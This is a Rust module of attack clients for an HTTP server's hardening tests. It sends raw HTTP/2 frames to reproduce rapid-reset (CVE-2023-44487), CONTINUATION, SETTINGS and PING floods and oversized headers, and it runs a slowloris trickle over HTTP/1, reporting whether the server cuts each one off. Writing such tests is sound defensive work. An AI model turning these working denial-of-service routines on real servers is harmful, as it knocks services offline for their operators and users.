//! Hostile clients for the hardening tests: raw HTTP/2 frames (no library
//! would send these), and raw HTTP/1 bytes.
//!
//! An attack runs until the server closes the connection (or sends GOAWAY),
//! or until its budget of frames or time runs out, and reports which.

use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;

/// One HTTP/2 frame.
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = payload.len() as u32;
    let mut f = Vec::with_capacity(9 + payload.len());
    f.extend_from_slice(&len.to_be_bytes()[1..]);
    f.push(kind);
    f.push(flags);
    f.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    f.extend_from_slice(payload);
    f
}

/// A GET's header block in HPACK, from the static table and one literal:
/// `:method GET`, `:scheme http`, `:path /`, `:authority <authority>`.
pub fn get_block(authority: &str) -> Vec<u8> {
    let mut b = vec![0x82, 0x86, 0x84, 0x01, authority.len() as u8];
    b.extend_from_slice(authority.as_bytes());
    b
}

/// A literal header (without indexing, new name) of `len` bytes of value,
/// split over frames by the caller.
pub fn big_header(len: usize) -> Vec<u8> {
    let mut b = vec![0x00, 0x01, b'x'];
    // Value length, HPACK integer with a 7-bit prefix.
    let mut n = len;
    if n < 127 {
        b.push(n as u8);
    } else {
        b.push(127);
        n -= 127;
        while n >= 128 {
            b.push((n % 128 + 128) as u8);
            n /= 128;
        }
        b.push(n as u8);
    }
    b.extend(std::iter::repeat_n(b'a', len));
    b
}

/// How an attack ended.
#[derive(Debug, PartialEq, Eq)]
pub enum Ended {
    /// The server sent GOAWAY or closed the connection.
    CutOff { after: Duration, frames: u64 },
    /// The attacker ran out of budget first, still connected.
    StillOpen { frames: u64 },
}

/// The attacker's connection: writes frames while draining (or ignoring)
/// what the server sends, watching for GOAWAY and close.
pub struct H2Attacker {
    write: tokio::net::tcp::OwnedWriteHalf,
    closed: tokio::sync::watch::Receiver<bool>,
    started: Instant,
}

impl H2Attacker {
    /// Connects and sends the preface and an empty SETTINGS; with `read`,
    /// what the server sends is read (and discarded), otherwise left
    /// unread (a client that never reads its PING or SETTINGS acks).
    pub async fn connect(addr: std::net::SocketAddr, read: bool) -> std::io::Result<Self> {
        let s = TcpStream::connect(addr).await?;
        s.set_nodelay(true)?;
        let (mut r, mut write) = s.into_split();
        write.write_all(PREFACE).await?;
        write.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
        let (tx, closed) = tokio::sync::watch::channel(false);
        if !read {
            // Never read: what the server sends piles up on its side; a
            // close shows as a failed write.
            tokio::spawn(async move {
                let _keep = (r, tx);
                std::future::pending::<()>().await
            });
        } else {
            tokio::spawn(async move {
                let mut buf = vec![0u8; 64 * 1024];
                let mut pending = Vec::new();
                loop {
                    match r.read(&mut buf).await {
                        Ok(0) | Err(_) => {
                            let _ = tx.send(true);
                            return;
                        }
                        Ok(n) => {
                            pending.extend_from_slice(&buf[..n]);
                            // Walk the frames for a GOAWAY.
                            while pending.len() >= 9 {
                                let len =
                                    u32::from_be_bytes([0, pending[0], pending[1], pending[2]])
                                        as usize;
                                if pending.len() < 9 + len {
                                    break;
                                }
                                if pending[3] == GOAWAY {
                                    let _ = tx.send(true);
                                }
                                pending.drain(..9 + len);
                            }
                        }
                    }
                }
            });
        }
        Ok(Self {
            write,
            closed,
            started: Instant::now(),
        })
    }

    fn cut(&self) -> bool {
        *self.closed.borrow()
    }

    /// Writes `next(i)`'s frames for i = 0.. until cut off, `max` frames,
    /// or `within` passes.
    pub async fn run(
        &mut self,
        max: u64,
        within: Duration,
        mut next: impl FnMut(u64) -> Vec<u8>,
    ) -> Ended {
        let deadline = Instant::now() + within;
        let mut frames = 0;
        let mut batch = Vec::with_capacity(64 * 1024);
        while frames < max && Instant::now() < deadline {
            if self.cut() {
                return Ended::CutOff {
                    after: self.started.elapsed(),
                    frames,
                };
            }
            batch.clear();
            for _ in 0..64 {
                batch.extend(next(frames));
                frames += 1;
            }
            let write =
                tokio::time::timeout(Duration::from_millis(500), self.write.write_all(&batch));
            match write.await {
                Ok(Ok(())) => {}
                // A write error is the server going away; a stalled write
                // is the server no longer reading (TCP backpressure).
                Ok(Err(_)) => {
                    return Ended::CutOff {
                        after: self.started.elapsed(),
                        frames,
                    };
                }
                Err(_) => {
                    if self.cut() {
                        return Ended::CutOff {
                            after: self.started.elapsed(),
                            frames,
                        };
                    }
                }
            }
        }
        // Give the server a moment to react to the last burst.
        for _ in 0..20 {
            if self.cut() {
                return Ended::CutOff {
                    after: self.started.elapsed(),
                    frames,
                };
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        Ended::StillOpen { frames }
    }
}

/// Rapid reset (CVE-2023-44487): a request, then its RST_STREAM, over and
/// over on new streams.
pub fn rapid_reset(authority: &str) -> impl FnMut(u64) -> Vec<u8> {
    let block = get_block(authority);
    move |i| {
        let id = (2 * i + 1) as u32;
        let mut f = frame(HEADERS, END_HEADERS | END_STREAM, id, &block);
        f.extend(frame(RST_STREAM, 0, id, &8u32.to_be_bytes()));
        f
    }
}

/// CONTINUATION flood: one header block that never ends.
pub fn continuation_flood(authority: &str) -> impl FnMut(u64) -> Vec<u8> {
    let block = get_block(authority);
    move |i| {
        if i == 0 {
            frame(HEADERS, END_STREAM, 1, &block)
        } else {
            frame(CONTINUATION, 0, 1, &big_header(1000)[..1000])
        }
    }
}

pub fn settings_flood() -> impl FnMut(u64) -> Vec<u8> {
    |_| frame(SETTINGS, 0, 0, &[])
}

pub fn ping_flood() -> impl FnMut(u64) -> Vec<u8> {
    |i| frame(PING, 0, 0, &i.to_be_bytes())
}

/// One request whose header block is `len` bytes of one header value, in
/// 16 KiB frames.
pub fn oversized_headers(authority: &str, len: usize) -> Vec<u8> {
    let mut block = get_block(authority);
    block.extend(big_header(len));
    let chunks: Vec<&[u8]> = block.chunks(16 * 1024).collect();
    let mut out = Vec::new();
    for (i, c) in chunks.iter().enumerate() {
        let last = i + 1 == chunks.len();
        let flags = if last { END_HEADERS } else { 0 };
        if i == 0 {
            out.extend(frame(HEADERS, flags | END_STREAM, 1, c));
        } else {
            out.extend(frame(CONTINUATION, flags, 1, c));
        }
    }
    out
}

/// An empty DATA frame, for tests that want filler.
pub fn empty_data(stream: u32) -> Vec<u8> {
    frame(DATA, 0, stream, &[])
}

/// Sends raw HTTP/1 bytes and returns what came back before the server
/// closed (or `within` passed).
pub async fn http1_raw(
    addr: std::net::SocketAddr,
    request: &[u8],
    within: Duration,
) -> std::io::Result<String> {
    let mut s = TcpStream::connect(addr).await?;
    s.write_all(request).await?;
    let mut out = Vec::new();
    let _ = tokio::time::timeout(within, s.read_to_end(&mut out)).await;
    Ok(String::from_utf8_lossy(&out).into_owned())
}

/// Slowloris: sends `head` at once, then `trickle` one byte every `gap`,
/// and reports how long the server kept the connection and whether it
/// closed it (rather than the bytes running out).
pub async fn slowloris(
    addr: std::net::SocketAddr,
    head: &[u8],
    trickle: &[u8],
    gap: Duration,
) -> std::io::Result<(Duration, bool)> {
    let mut s = TcpStream::connect(addr).await?;
    s.write_all(head).await?;
    let started = Instant::now();
    let mut buf = [0u8; 4096];
    for b in trickle {
        if s.write_all(&[*b]).await.is_err() {
            return Ok((started.elapsed(), true));
        }
        // Wait out the gap listening for the server's close.
        let until = Instant::now() + gap;
        while Instant::now() < until {
            match tokio::time::timeout_at(until.into(), s.read(&mut buf)).await {
                Ok(Ok(0)) | Ok(Err(_)) => return Ok((started.elapsed(), true)),
                Ok(Ok(_)) => {}
                Err(_) => break,
            }
        }
    }
    Ok((started.elapsed(), false))
}
